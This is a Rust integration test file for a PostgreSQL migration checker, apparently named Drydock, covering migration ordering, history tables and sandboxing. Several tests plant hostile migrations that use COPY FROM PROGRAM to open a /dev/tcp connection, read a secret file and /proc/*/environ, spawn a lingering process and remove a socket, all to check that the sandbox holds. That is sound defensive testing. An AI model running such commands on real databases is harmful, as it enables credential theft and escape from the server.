    let out = check(t.path(), &["--postgres", "local"]);
    assert!(
        out.stdout.len() < 20_000,
        "{} bytes of report",
        out.stdout.len()
    );
    let report = json(&out);
    let failed = findings_of(&report, "migration-fails");
    assert_eq!(failed.len(), 1, "{report:#}");
    let message = failed[0]["message"].as_str().unwrap();
    assert!(message.contains("more bytes cut"), "{}", &message[..200]);
}

/// A hostile migration, as root runs the local provider in CI, tries every route out of the
/// server: the network, the checkout's files (where actions/checkout keeps the token), the
/// runner's processes, and a process left behind. The sandbox holds each, and says it is on.
#[test]
fn the_local_sandbox_holds_against_a_hostile_migration() {
    if no_local_postgres() {
        return;
    }
    if unsafe { libc::geteuid() } != 0 {
        missing("root (the local sandbox needs it; CI runs as root)");
        return;
    }
    hostile_migration_is_held(
        &["--postgres", "local"],
        "127.0.0.1",
        None,
        "sandbox: own pid, network and mount namespaces;",
    );
}

/// The same, with Drydock run as an ordinary user (a GitHub-hosted runner's `runner`, a
/// laptop): the server then has Drydock's uid, so without namespaces it could read Drydock's
/// `/proc/PID/environ` and every file Drydock can. A user namespace of its own gives it the
/// same sandbox.
#[test]
fn the_local_sandbox_holds_when_drydock_is_not_root() {
    if no_local_postgres() {
        return;
    }
    if unsafe { libc::geteuid() } != 0 {
        missing("root (the test runs Drydock as `nobody`; CI runs as root)");
        return;
    }
    hostile_migration_is_held(
        &["--postgres", "local"],
        "127.0.0.1",
        Some((65534, 65534)),
        "in a user namespace of its own (unprivileged)",
    );
}

/// The same through the docker provider: the container has no network (Drydock reaches its
/// socket through a private directory), so it cannot call the host on Docker's bridge, and
/// nothing of the checkout is mounted. Fails with the default network.
#[test]
fn the_docker_sandbox_holds_against_a_hostile_migration() {
    let Some(image) = docker_image() else { return };
    let gateway = Command::new("docker")
        .args([
            "network",
            "inspect",
            "bridge",
            "--format",
            "{{(index .IPAM.Config 0).Gateway}}",
        ])
        .output()
        .unwrap();
    let gateway = String::from_utf8_lossy(&gateway.stdout).trim().to_string();
    assert!(!gateway.is_empty(), "Docker's bridge has a gateway");
    hostile_migration_is_held(
        &["--postgres", "docker", "--postgres-image", &image],
        &gateway,
        None,
        "sandbox: no network",
    );
    assert_eq!(containers_left(), Vec::<String>::new());
}

/// The docker provider's server makes its socket in a directory of the host: once it has, a
/// migration cannot replace it (with a link to another server's socket on the host, which
/// Drydock's next connection would follow out of the sandbox). Fails while the directory stays
/// writable to the server.
#[test]
fn a_docker_migration_cannot_replace_the_socket_drydock_connects_through() {
    let Some(image) = docker_image() else { return };
    let t = repo_with(&[(
        "001_socket.sql",
        "CREATE TABLE seen (line text);
COPY seen FROM PROGRAM 'rm -f /var/run/drydock/.s.PGSQL.5432 2>&1; ls -a /var/run/drydock';
DO $$ BEGIN RAISE EXCEPTION 'seen: %', (SELECT string_agg(line, ' ') FROM seen); END $$;
",
    )]);
    let out = check(
        t.path(),
        &["--postgres", "docker", "--postgres-image", &image],
    );
    let report = json(&out);
    let failed = findings_of(&report, "migration-fails");
    assert_eq!(failed.len(), 1, "{report:#}");
    let message = failed[0]["message"].as_str().unwrap();
    assert!(message.contains("Permission denied"), "{message}");
    assert!(
        message.contains(".s.PGSQL.5432 "),
        "the socket is still there: {message}"
    );
    assert_eq!(containers_left(), Vec::<String>::new());
}

/// Runs the hostile migration through `drydock check` with `provider` (as `user` when given),
/// calling the host at `host`, and asserts that the provider's description says `sandbox` and
/// that nothing got out.
fn hostile_migration_is_held(
    provider: &[&str],
    host: &str,
    user: Option<(u32, u32)>,
    sandbox: &str,
) {
    use std::os::unix::fs::PermissionsExt;
    // Its own duration per caller: the tests run at the same time.
    let sleep = 6011 + user.map_or(0, |(uid, _)| uid) + u32::from(host != "127.0.0.1");
    let listener = std::net::TcpListener::bind("0.0.0.0:0").unwrap();
    listener.set_nonblocking(true).unwrap();
    let port = listener.local_addr().unwrap().port();
    let t = repo_with(&[]);
    fs::set_permissions(t.path(), fs::Permissions::from_mode(0o755)).unwrap();
    fs::write(t.path().join("secret.txt"), "file_canary_3141\n").unwrap();
    let checkout = t.path().canonicalize().unwrap();
    let migration = format!(
        "CREATE TABLE leak (line text);
COPY leak FROM PROGRAM 'bash -c \"(exec 3<>/dev/tcp/{host}/{port}) 2>/dev/null && echo connected || echo no-network\"';
COPY leak FROM PROGRAM 'cat {checkout}/secret.txt 2>&1; cat /proc/*/environ 2>/dev/null | tr ''\\000'' ''\\n''';
COPY (SELECT 1) TO PROGRAM 'cat >/dev/null; setsid sleep {sleep} >/dev/null 2>&1 < /dev/null &';
DO $$ BEGIN INSERT INTO leak VALUES (pg_read_file('{checkout}/secret.txt'));
EXCEPTION WHEN others THEN INSERT INTO leak VALUES ('read refused'); END $$;
DO $$ BEGIN RAISE EXCEPTION 'leak: %', (SELECT string_agg(line, ' | ') FROM leak
  WHERE line ~ 'canary|connected|no-network|refused'); END $$;
",
        checkout = checkout.display()
    );
    write_migrations(t.path(), &[("001_hostile.sql", &migration)]);
    if let Some((uid, gid)) = user {
        for entry in [t.path().to_path_buf(), t.path().join("migrations")]
            .into_iter()
            .chain(
                fs::read_dir(t.path().join("migrations"))
                    .unwrap()
                    .map(|e| e.unwrap().path()),
            )
            .chain([t.path().join("secret.txt")])
        {
            std::os::unix::fs::chown(&entry, Some(uid), Some(gid)).unwrap();
        }
    }
    let out = drydock_within_as(
        &[&["check", "migrations", "--format", "json"], provider].concat(),
        t.path(),
        &[("DRYDOCK_TEST_CANARY", "env_canary_2718")],
        Duration::from_secs(120),
        user,
    );
    let report = json(&out);
    assert!(
        report["postgres"].as_str().unwrap().contains(sandbox),
        "expected `{sandbox}`: {report:#}"
    );
    let failed = findings_of(&report, "migration-fails");
    assert_eq!(failed.len(), 1, "{report:#}");
    let message = failed[0]["message"].as_str().unwrap();
    assert!(message.contains("no-network"), "{message}");
    assert!(message.contains("read refused"), "{message}");
    assert!(
        !message.split(" | ").any(|l| l.ends_with("connected")),
        "{message}"
    );
    for leaked in ["file_canary_3141", "env_canary_2718"] {
        assert!(!message.contains(leaked), "{leaked}: {message}");
    }
    assert!(listener.accept().is_err(), "the server reached the network");
    let left = Command::new("pgrep")
        .args(["-f", &format!("sleep {sleep}")])
        .output()
        .unwrap();
    assert!(
        String::from_utf8_lossy(&left.stdout).trim().is_empty(),
        "a process the migration started outlived the run"
    );
}

/// A SIGKILLed run's local server dies with it, but its files cannot remove themselves: the
/// next local run on the machine removes them (and leaves a live run's alone).
#[test]
fn the_next_local_run_removes_the_cluster_of_a_killed_run() {
    if no_local_postgres() {
        return;
    }
    let t = repo_with(&[("001_slow.sql", "SELECT pg_sleep(60);")]);
    let tmp = tempfile::tempdir().unwrap();
    let args = ["check", "migrations", "--postgres", "local"];
    let mut child = spawn_drydock(&args, t.path(), Some(tmp.path()));
    wait_for("the server to start", || {
        clusters_in(tmp.path())
            .iter()
            .any(|c| c.join("data/postmaster.pid").exists())
    });
    // SIGKILL: no chance to clean up.
    child.kill().unwrap();
    child.wait().unwrap();
    let orphans = clusters_in(tmp.path());
    assert_eq!(orphans.len(), 1, "the killed run's cluster is there");
    wait_for("the killed run's server to stop", || {
        !orphans[0].join("data/postmaster.pid").exists()
    });

    let quick = repo_with(&[("001_t.sql", "CREATE TABLE t (id int);")]);
    let out = Command::new(BIN)
        .args(["check", "migrations", "--postgres", "local"])
        .current_dir(quick.path())
        .env("TMPDIR", tmp.path())
        .output()
        .unwrap();
    assert_eq!(
        out.status.code(),
        Some(0),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    assert_eq!(clusters_in(tmp.path()), Vec::<PathBuf>::new());
}

/// Migrations may read their tool's history table, which the tool creates before it runs any
/// (and fills as it applies them): a base migration and one under review that read it apply
/// cleanly, and the table stays out of the schema changes.
#[test]
fn migrations_may_read_their_tools_history_table() {
    if no_local_postgres() {
        return;
    }
    // (format, history table, base file, reviewed file, the head of a file, the rows the
    // reviewed file sees: those the tool writes with the table and for the base file)
    let cases: &[(&str, &str, &str, &str, &str, u32)] = &[
        (
            "golang-migrate",
            "schema_migrations",
            "1_orders.up.sql",
            "2_read.up.sql",
            "",
            1,
        ),
        (
            "goose",
            "goose_db_version",
            "00001_orders.sql",
            "00002_read.sql",
            "-- +goose Up\n",
            2,
        ),
        (
            "diesel",
            "__diesel_schema_migrations",
            "2024-01-01-000000_orders/up.sql",
            "2024-01-02-000000_read/up.sql",
            "",
            1,
        ),
        (
            "dbmate",
            "schema_migrations",
            "20240101000000_orders.sql",
            "20240102000000_read.sql",
            "-- migrate:up\n",
            1,
        ),
        (
            "flyway",
            "flyway_schema_history",
            "V1__orders.sql",
            "V2__read.sql",
            "",
            1,
        ),
        (
            "prisma",
            "_prisma_migrations",
            "20240101000000_orders/migration.sql",
            "20240102000000_read/migration.sql",
            "",
            1,
        ),
        (
            "sqlx",
            "_sqlx_migrations",
            "20240101000000_orders.sql",
            "20240102000000_read.sql",
            "",
            1,
        ),
        (
            "popx",
            "schema_migration",
            "20240101000000_orders.postgres.up.sql",
            "20240102000000_read.up.sql",
            "",
            1,
        ),
        (
            "atlas",
            "atlas_schema_revisions.atlas_schema_revisions",
            "20240101000000_orders.sql",
            "20240102000000_read.sql",
            "",
            1,
        ),
    ];
    for (format, table, base, reviewed, head, rows) in cases {
        let t = tempfile::tempdir().unwrap();
        let write = |name: &str, content: &str| {
            let path = t.path().join("migrations").join(name);
            fs::create_dir_all(path.parent().unwrap()).unwrap();
            fs::write(path, content).unwrap();
        };
        write(
            base,
            &format!(
                "{head}CREATE TABLE orders (id int PRIMARY KEY);\n\
                 CREATE TABLE seen (n bigint);\n\
                 INSERT INTO seen SELECT count(*) FROM {table};\n"
            ),
        );
        git(t.path(), &["init", "-q", "-b", "main"]);
        git(t.path(), &["add", "."]);
        git(t.path(), &["commit", "-q", "-m", "base"]);
        write(
            reviewed,
            &format!(
                "{head}INSERT INTO seen SELECT count(*) FROM {table};\n\
                 DO $$ BEGIN IF (SELECT count(*) FROM {table}) <> {rows} THEN \
                 RAISE EXCEPTION 'history rows: %', (SELECT count(*) FROM {table}); \
                 END IF; END $$;\n\
                 ALTER TABLE orders ADD COLUMN note text;\n"
            ),
        );
        let out = check(
            t.path(),
            &[
                "--base",
                "main",
                "--postgres",
                "local",
                "--migration-format",
                format,
            ],
        );
        let report = json(&out);
        assert!(
            findings_of(&report, "migration-fails").is_empty(),
            "{format}: {report:#}"
        );
        assert_eq!(out.status.code(), Some(0), "{format}: {report:#}");
        let changes = report["schema_changes"].to_string();
        assert!(changes.contains("orders"), "{format}: {report:#}");
        let bare = table.rsplit('.').next().unwrap();
        assert!(!changes.contains(bare), "{format}: {report:#}");
    }
}

/// A SIGKILLed run cannot drop its database on the server it was given: the next run from
/// this host drops it (each database names its run in its comment).
#[test]
fn the_next_url_run_drops_the_database_of_a_killed_run() {
    let Some(image) = docker_image() else { return };
    let (id, port) = existing_server(&image);
    let before = databases(port);
    let url = format!("postgres://postgres:s3cret-pw@127.0.0.1:{port}/postgres");
    let slow = repo_with(&[("001_slow.sql", "SELECT pg_sleep(60);")]);
    let mut child = spawn_drydock(
        &["check", "migrations", "--postgres", &url],
        slow.path(),
        None,
    );
    wait_for("the run's database", || {
        databases(port).len() > before.len()
    });
    // SIGKILL: no chance to clean up.
    child.kill().unwrap();
    child.wait().unwrap();
    assert!(
        databases(port).len() > before.len(),
        "the killed run's database is there"
    );
    let roles = "SELECT rolname FROM pg_roles WHERE rolname LIKE 'drydock%'";
    assert_eq!(server_query(port, roles).len(), 1, "its throwaway role too");

    let quick = repo_with(&[("001_t.sql", "CREATE TABLE t (id int);")]);
    let out = check(quick.path(), &["--postgres", &url]);
    assert_eq!(
        out.status.code(),
        Some(0),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    assert_eq!(
        databases(port),
        before,
        "the killed run's database was not dropped"
    );
    assert_eq!(
        server_query(port, roles),
        Vec::<String>::new(),
        "the killed run's role was not dropped"
    );
    Command::new("docker")
        .args(["rm", "-f", &id])
        .output()
        .unwrap();
}

/// A team whose runner sets lock_timeout says so once: the migrations need not, and the trace
/// shows the timeout in force, as in production.
#[test]
fn a_lock_timeout_the_runner_sets_silences_missing_lock_timeout_and_is_in_force() {
    if no_local_postgres() {
        return;
    }
    let change = [(
        "002_change.sql",
        "ALTER TABLE orders ADD COLUMN shipped boolean;\n",
    )];
    let t = repo_with_change(&[("001_orders.sql", ORDERS)], &change);
    let without = json(&check(t.path(), &["--base", "main", "--postgres", "local"]));
    assert_eq!(
        findings_of(&without, "missing-lock-timeout").len(),
        1,
        "{without:#}"
    );

    fs::write(t.path().join("drydock.toml"), "runner-lock-timeout = 5\n").unwrap();
    let out = check(t.path(), &["--base", "main", "--postgres", "local"]);
    let report = json(&out);
    assert_eq!(out.status.code(), Some(0), "{report:#}");
    assert!(
        findings_of(&report, "missing-lock-timeout").is_empty(),
        "{report:#}"
    );
    let statements = report["directories"][0]["statements"].as_array().unwrap();
    assert_eq!(statements[0]["lock_timeout_set"], true, "{report:#}");

    // `drydock lint` prints its findings as a list.
    let lint = drydock(
        &["lint", "migrations/002_change.sql", "--format", "json"],
        t.path(),
    );
    let rules: Vec<Value> = json(&lint)
        .as_array()
        .unwrap()
        .iter()
        .map(|f| f["rule"].clone())
        .collect();
    assert!(
        !rules.contains(&Value::from("missing-lock-timeout")),
        "{rules:?}"
    );

    fs::write(t.path().join("drydock.toml"), "runner-lock-timeout = 0\n").unwrap();
    let bad = check(t.path(), &["--base", "main", "--postgres", "local"]);
    assert_eq!(bad.status.code(), Some(2));
    let stderr = String::from_utf8_lossy(&bad.stderr);
    assert!(stderr.contains("runner-lock-timeout"), "{stderr}");
}

/// A base the throwaway server cannot build (an extension it lacks, syntax of a newer release)
/// is the environment's doing: exit 2, saying what to change, with the change's static findings
/// still reported; never a `migration-fails` error of the change.
#[test]
fn a_base_the_server_cannot_build_is_its_own_outcome_saying_what_to_change() {
    if no_local_postgres() {
        return;
    }
    let change = [("002_drop.sql", "DROP TABLE legacy;\n")];
    let base_with = |sql: &str| {
        repo_with_change(
            &[(
                "001_base.sql",
                &format!("CREATE TABLE legacy (id int);\n{sql}"),
            )],
            &change,
        )
    };
    // pgvector is not among PostgreSQL's contrib modules.
    let t = base_with("CREATE EXTENSION IF NOT EXISTS vector;\n");
    fs::write(t.path().join("drydock.toml"), "postgres-version = 17\n").unwrap();
    let out = check(t.path(), &["--base", "main", "--postgres", "local"]);
    assert_eq!(out.status.code(), Some(2));
    let report = json(&out);
    assert!(
        findings_of(&report, "migration-fails").is_empty(),
        "{report:#}"
    );
    assert_eq!(findings_of(&report, "drop-table").len(), 1, "{report:#}");
    let unbuilt = &report["directories"][0]["base_unbuilt"];
    assert_eq!(unbuilt["line"], 2, "{unbuilt:#}");
    let help = unbuilt["help"].as_str().unwrap();
    assert!(help.contains("lacks the `vector` extension"), "{help}");
    assert!(help.contains("`pgvector/pgvector:pg17`"), "{help}");
    let text = drydock(
        &[
            "check",
            "migrations",
            "--base",
            "main",
            "--postgres",
            "local",
        ],
        t.path(),
    );
    let text = String::from_utf8_lossy(&text.stdout);
    assert!(
        text.contains("error: could not build the base state"),
        "{text}"
    );
    assert!(text.contains("the change was not applied"), "{text}");

    // A subquery without an alias is PostgreSQL 16 syntax; the local server is older.
    let t = base_with("CREATE VIEW one AS SELECT * FROM (SELECT 1 AS x);\n");
    let out = check(t.path(), &["--base", "main", "--postgres", "local"]);
    let report = json(&out);
    if report["postgres"]
        .as_str()
        .unwrap_or("")
        .contains("PostgreSQL 15")
    {
        assert_eq!(out.status.code(), Some(2), "{report:#}");
        let help = report["directories"][0]["base_unbuilt"]["help"]
            .as_str()
            .unwrap();
        assert!(
            help.contains("PostgreSQL 15, older than production's 16"),
            "{help}"
        );
    }
}

/// A repository whose `main` holds `base` and whose work tree adds `change`, files at any depth
/// of `migrations/` (Prisma's and diesel's sub-directories).
fn repo_with_nested_change(base: &[(&str, &str)], change: &[(&str, &str)]) -> tempfile::TempDir {
    let t = tempfile::tempdir().unwrap();
    let write = |files: &[(&str, &str)]| {
        for (name, content) in files {
            let path = t.path().join("migrations").join(name);
            fs::create_dir_all(path.parent().unwrap()).unwrap();
            fs::write(path, content).unwrap();
        }
    };
    write(base);
    git(t.path(), &["init", "-q", "-b", "main"]);
    git(t.path(), &["add", "."]);
    git(t.path(), &["commit", "-q", "-m", "base"]);
    write(change);
    t
}

fn messages(report: &Value, rule: &str) -> Vec<String> {
    findings_of(report, rule)
        .iter()
        .map(|f| format!("{}:{}: {}", f["file"], f["line"], f["message"]))
        .collect()
}

/// Prisma applies a new migration that sorts before merged ones after them in production and
/// before them on a fresh install: both orders are applied, and only a failing one reported.
#[test]
fn an_out_of_order_migration_is_applied_in_production_and_fresh_install_order() {
    if no_local_postgres() {
        return;
    }
    let base = [
        (
            "20240101000000_users/migration.sql",
            "CREATE TABLE users (id bigint PRIMARY KEY);\n",
        ),
        (
            "20240301000000_invoices/migration.sql",
            "CREATE TABLE invoices (id bigint PRIMARY KEY, user_id bigint);\n",
        ),
    ];
    let check_change = |change: &[(&str, &str)]| {
        let t = repo_with_nested_change(&base, change);
        let out = check(t.path(), &["--base", "main", "--postgres", "local"]);
        let report = json(&out);
        (out, report)
    };

    // Works in both orders: nothing to say.
    let (out, report) = check_change(&[(
        "20240201000000_user_names/migration.sql",
        "ALTER TABLE users ADD COLUMN name text;\n",
    )]);
    assert_eq!(out.status.code(), Some(0), "{report:#}");
    assert!(
        findings_of(&report, "out-of-order-version").is_empty(),
        "{report:#}"
    );

    // Works in production's order only: the table it alters comes from a newer migration.
    let (out, report) = check_change(&[(
        "20240201000000_invoice_notes/migration.sql",
        "ALTER TABLE invoices ADD COLUMN note text;\n",
    )]);
    assert_eq!(out.status.code(), Some(1), "{report:#}");
    assert!(
        findings_of(&report, "migration-fails").is_empty(),
        "{report:#}"
    );
    let fresh = findings_of(&report, "out-of-order-version");
    assert_eq!(fresh.len(), 1, "{report:#}");
    assert_eq!(
        fresh[0]["file"],
        "migrations/20240201000000_invoice_notes/migration.sql"
    );
    assert_eq!(fresh[0]["line"], 1);
    let message = fresh[0]["message"].as_str().unwrap();
    assert!(
        message.contains("this migration sorts before 20240301000000_invoices/migration.sql")
            && message.contains(
                "a fresh install applies prisma's migrations in their order, this one first, \
                    and there it fails"
            )
            && message.contains("relation \"invoices\" does not exist"),
        "{message}"
    );
    assert_eq!(evidence(fresh[0], "apply").unwrap()["sqlstate"], "42P01");

    // Fails the same way in either order: not the order's doing, said once.
    let (out, report) = check_change(&[(
        "20240201000000_typo/migration.sql",
        "ALTER TABLE users ADD COLUMN note txet;\n",
    )]);
    assert_eq!(out.status.code(), Some(1), "{report:#}");
    assert_eq!(messages(&report, "migration-fails").len(), 1, "{report:#}");
    assert!(
        findings_of(&report, "out-of-order-version").is_empty(),
        "{report:#}"
    );

    // Fails in both: production's order at the new file, a fresh install at the merged one.
    let (out, report) = check_change(&[(
        "20240201000000_invoices_again/migration.sql",
        "CREATE TABLE invoices (id bigint PRIMARY KEY);\n",
    )]);
    assert_eq!(out.status.code(), Some(1), "{report:#}");
    let production = messages(&report, "migration-fails");
    assert_eq!(production.len(), 1, "{report:#}");
    assert!(
        production[0].contains("already exists")
            && production[0].contains(
                "in production's order: prisma applies this migration after \
                    20240301000000_invoices/migration.sql"
            ),
        "{production:?}"
    );
    let fresh = messages(&report, "out-of-order-version");
    assert_eq!(fresh.len(), 1, "{report:#}");
    assert!(
        fresh[0].contains("20240201000000_invoices_again/migration.sql\":1:")
            && fresh[0]
                .contains("and then 20240301000000_invoices/migration.sql (already merged) fails")
            && fresh[0].contains("already exists"),
        "{fresh:?}"
    );
}

/// golang-migrate records one current version: a new file below it is never run, and the
/// finding says so (an error).
#[test]
fn a_golang_migrate_file_below_the_current_version_is_reported_as_never_run() {
    if no_local_postgres() {
        return;
    }
    let t = repo_with_change(
        &[
            (
                "001_users.up.sql",
                "CREATE TABLE users (id int PRIMARY KEY);\n",
            ),
            (
                "003_orders.up.sql",
                "CREATE TABLE orders (id int PRIMARY KEY);\n",
            ),
        ],
        &[(
            "002_names.up.sql",
            "ALTER TABLE users ADD COLUMN name text;\n",
        )],
    );
    let out = check(t.path(), &["--base", "main", "--postgres", "local"]);
    let report = json(&out);
    assert_eq!(out.status.code(), Some(1), "{report:#}");
    let found = messages(&report, "out-of-order-version");
    assert_eq!(found.len(), 1, "{report:#}");
    assert!(
        found[0].contains("golang-migrate records only the newest version it applied")
            && found[0].contains("silently never run"),
        "{found:?}"
    );
}

/// Prisma tells migrations apart by their whole directory name: two with one timestamp are two
/// migrations, whichever sorts first.
#[test]
fn prisma_migrations_with_the_same_timestamp_are_two_migrations() {
    if no_local_postgres() {
        return;
    }
    let t = repo_with_nested_change(
        &[(
            "20260630120000_add_webhook_filter/migration.sql",
            "CREATE TABLE webhooks (id bigint PRIMARY KEY, filter text);\n",
        )],
        &[
            (
                "20260630120000_drop_alert_keys/migration.sql",
                "CREATE TABLE alerts (id bigint PRIMARY KEY);\n",
            ),
            (
                "20260630120000_a_webhook_index/migration.sql",
                "CREATE TABLE webhook_log (id bigint PRIMARY KEY);\n",
            ),
        ],
    );
    let out = check(t.path(), &["--base", "main", "--postgres", "local"]);
    let report = json(&out);
    assert_eq!(out.status.code(), Some(0), "{report:#}");
    assert!(
        report["findings"].as_array().unwrap().is_empty(),
        "{report:#}"
    );
    let files: Vec<&str> = report["directories"][0]["files"]
        .as_array()
        .unwrap()
        .iter()
        .map(|f| f["file"].as_str().unwrap())
        .collect();
    assert_eq!(files.len(), 3, "{report:#}");
}

/// A duplicate that has been on the base branch since before the change is said once, as a
/// notice, and fails nothing; a new file that duplicates a version is the change's.
#[test]
fn a_duplicate_already_on_the_base_branch_is_a_notice_not_a_finding() {
    if no_local_postgres() {
        return;
    }
    let base = [
        (
            "005_accounts.up.sql",
            "CREATE TABLE accounts (id int PRIMARY KEY);\n",
        ),
        (
            "005_payments.up.sql",
            "CREATE TABLE payments (id int PRIMARY KEY);\n",
        ),
    ];
    let t = repo_with_change(
        &base,
        &[(
            "006_refunds.up.sql",
            "CREATE TABLE refunds (id int PRIMARY KEY);\n",
        )],
    );
    let out = check(t.path(), &["--base", "main", "--postgres", "local"]);
    let report = json(&out);
    assert_eq!(out.status.code(), Some(0), "{report:#}");
    assert!(
        report["findings"].as_array().unwrap().is_empty(),
        "{report:#}"
    );
    let notices = report["notices"].as_array().unwrap();
    assert_eq!(notices.len(), 1, "{report:#}");
    assert_eq!(notices[0]["rule"], "duplicate-version");
    assert_eq!(notices[0]["file"], "migrations/005_payments.up.sql");
    // Once in the text summary too.
    let text = drydock(
        &[
            "check",
            "migrations",
            "--base",
            "main",
            "--postgres",
            "local",
        ],
        t.path(),
    );
    let text = String::from_utf8_lossy(&text.stdout);
    assert_eq!(
        text.matches(
            "note: Already on the base branch, so not this change's doing \
            (duplicate-version, migrations/005_payments.up.sql): version 5 is used by both \
            005_accounts.up.sql and 005_payments.up.sql"
        )
        .count(),
        1,
        "{text}"
    );

    // A new third file of that version is the change's: an error, the old pair still a notice.
    let t = repo_with_change(
        &base,
        &[(
            "005_refunds.up.sql",
            "CREATE TABLE refunds (id int PRIMARY KEY);\n",
        )],
    );
    let out = check(t.path(), &["--base", "main", "--postgres", "local"]);
    let report = json(&out);
    assert_eq!(out.status.code(), Some(1), "{report:#}");
    let found = messages(&report, "duplicate-version");
    assert_eq!(found.len(), 1, "{report:#}");
    assert!(
        found[0].contains("005_accounts.up.sql and 005_refunds.up.sql"),
        "{found:?}"
    );
    assert_eq!(report["notices"].as_array().unwrap().len(), 1, "{report:#}");
}

/// An atlas.sum already out of date at the base is not the change's: a change that touches no
/// migration of the directory gets a notice, not an error. Without a base it stays an error.
#[test]
fn an_atlas_sum_out_of_date_at_the_base_is_a_notice() {
    let t = repo_with(&[
        ("1_users.sql", "CREATE TABLE users (id int PRIMARY KEY);\n"),
        ("atlas.sum", "h1:stale\n1_users.sql h1:stale\n"),
    ]);
    git(t.path(), &["init", "-q", "-b", "main"]);
    git(t.path(), &["add", "."]);
    git(t.path(), &["commit", "-q", "-m", "base"]);
    fs::write(t.path().join("migrations/README.md"), "how we migrate\n").unwrap();
    let out = drydock(&["lint", "--base", "main", "migrations"], t.path());
    let text = String::from_utf8_lossy(&out.stdout);
    assert_eq!(out.status.code(), Some(0), "{text}");
    assert!(!text.contains("error[atlas-sum-mismatch]"), "{text}");
    assert!(
        text.contains(
            "note: Already on the base branch, so not this change's doing \
            (atlas-sum-mismatch, migrations/atlas.sum): atlas.sum no longer matches"
        ),
        "{text}"
    );
    let out = drydock(&["lint", "migrations"], t.path());
    assert_eq!(out.status.code(), Some(1));
    assert!(String::from_utf8_lossy(&out.stdout).contains("error[atlas-sum-mismatch]"));
}

/// A pull request that edits a merged migration is checked against the base production ran:
/// the merged text, not the edit (no runner runs an applied migration again), so the merged
/// migrations after it still build. An edit of comments only is no finding where the tool keeps
/// no checksum, and an error, saying why, where it does.
#[test]
fn an_edited_merged_migration_is_checked_against_the_base_production_ran() {
    if no_local_postgres() {
        return;
    }
    let orders =
        "-- Orders of a user.\nCREATE TABLE orders (id bigint PRIMARY KEY, total bigint);\n";
    let base: &[(&str, &str)] = &[
        ("1_orders.up.sql", orders),
        ("1_orders.down.sql", "DROP TABLE orders;\n"),
        (
            "2_orders_placed.up.sql",
            "ALTER TABLE orders ADD COLUMN placed_at timestamptz;\n",
        ),
        (
            "2_orders_placed.down.sql",
            "ALTER TABLE orders DROP COLUMN placed_at;\n",
        ),
    ];
    let refunds = (
        "3_refunds.up.sql",
        "CREATE TABLE refunds (id bigint PRIMARY KEY, order_id bigint REFERENCES orders);\n",
    );
    let comment_fixed = (
        "1_orders.up.sql",
        "-- The orders of a user.\nCREATE TABLE orders (id bigint PRIMARY KEY, total bigint);\n",
    );
    let local = ["--base", "main", "--postgres", "local"];

    // golang-migrate keeps no checksum: a comment fixed is nothing to say.
    let t = repo_with_nested_change(base, &[comment_fixed, refunds]);
    let out = check(t.path(), &local);
    let report = json(&out);
    assert_eq!(out.status.code(), Some(0), "{report:#}");
    assert!(
        findings_of(&report, "migration-edited").is_empty(),
        "{report:#}"
    );
    assert!(
        report["directories"][0]["base_unbuilt"].is_null(),
        "{report:#}"
    );

    // A statement changed: the edit never reaches production, said once, on the edited file;
    // the base is built from the merged text, so nothing else fails.
    let column_added = (
        "1_orders.up.sql",
        "CREATE TABLE orders (id bigint PRIMARY KEY, total bigint, note text);\n",
    );
    let t = repo_with_nested_change(base, &[column_added, refunds]);
    let out = check(t.path(), &local);
    let report = json(&out);
    assert_eq!(out.status.code(), Some(1), "{report:#}");
    let edited = messages(&report, "migration-edited");
    assert_eq!(edited.len(), 1, "{report:#}");
    assert!(
        edited[0].contains("migrations/1_orders.up.sql"),
        "{edited:?}"
    );
    assert!(
        findings_of(&report, "migration-fails").is_empty(),
        "{report:#}"
    );
    assert!(
        report["directories"][0]["base_unbuilt"].is_null(),
        "{report:#}"
    );

    // sqlx records a checksum: even a comment fixed stops every database that ran the file.
    let t = repo_with_nested_change(base, &[comment_fixed, refunds]);
    fs::write(
        t.path().join("Cargo.toml"),
        "[package]\nname = \"shop\"\n[dependencies]\nsqlx = \"0.8\"\n",
    )
    .unwrap();
    let out = check(t.path(), &local);
    let report = json(&out);
    assert_eq!(report["directories"][0]["format"], "sqlx", "{report:#}");
    assert_eq!(out.status.code(), Some(1), "{report:#}");
    let edited = messages(&report, "migration-edited");
    assert_eq!(edited.len(), 1, "{report:#}");
    assert!(
        edited[0].contains("only its comments or whitespace changed"),
        "{edited:?}"
    );
    assert!(
        edited[0].contains("previously applied but has been modified"),
        "{edited:?}"
    );
}

/// Flyway runs a repeatable migration again whenever it changes, after the versioned ones:
/// editing one is how it changes, and it is not the newest migration a later version sorts
/// before.
#[test]
fn a_flyway_repeatable_migration_is_edited_and_never_out_of_order() {
    if no_local_postgres() {
        return;
    }
    let t = repo_with_nested_change(
        &[
            (
                "V1__orders.sql",
                "CREATE TABLE orders (id bigint PRIMARY KEY, total bigint);\n",
            ),
            (
                "R__totals.sql",
                "CREATE OR REPLACE VIEW totals AS SELECT sum(total) AS total FROM orders;\n",
            ),
        ],
        &[
            (
                "V2__refunds.sql",
                "CREATE TABLE refunds (id bigint PRIMARY KEY, amount bigint);\n",
            ),
            (
                "R__totals.sql",
                "CREATE OR REPLACE VIEW totals AS SELECT sum(total) AS total, count(*) AS n FROM orders;\n",
            ),
        ],
    );
    let out = check(t.path(), &["--base", "main", "--postgres", "local"]);
    let report = json(&out);
    assert_eq!(report["directories"][0]["format"], "flyway", "{report:#}");
    assert_eq!(out.status.code(), Some(0), "{report:#}");
    assert!(
        findings_of(&report, "out-of-order-version").is_empty(),
        "{report:#}"
    );
    assert!(
        findings_of(&report, "migration-edited").is_empty(),
        "{report:#}"
    );
    // The view is changed, not created: the base ran the repeatable's old text.
    let view: Vec<&Value> = report["schema_changes"]
        .as_array()
        .unwrap()
        .iter()
        .filter(|c| c.to_string().contains("totals"))
        .collect();
    assert_eq!(view.len(), 1, "{report:#}");
    assert_eq!(view[0]["change"], "altered", "{report:#}");
}

/// An active project's history in every format (scripts/make-histories.py), replayed commit by
/// commit as pull requests (scripts/replay-history.sh): every commit passes but the drop, which
/// must block, and the comment fixed in a merged migration where the tool checks a checksum (or
/// is not known not to); nothing is blamed on the environment or on files a commit did not touch.
#[test]
fn an_active_projects_history_replays_as_its_reviewers_would_judge_it() {
    if no_local_postgres() {
        return;
    }
    let out = tempfile::tempdir().unwrap();
    let root = Path::new(env!("CARGO_MANIFEST_DIR"));
    let made = Command::new("python3")
        .arg(root.join("scripts/make-histories.py"))
        .arg(out.path())
        .output()
        .expect("python3 runs scripts/make-histories.py");
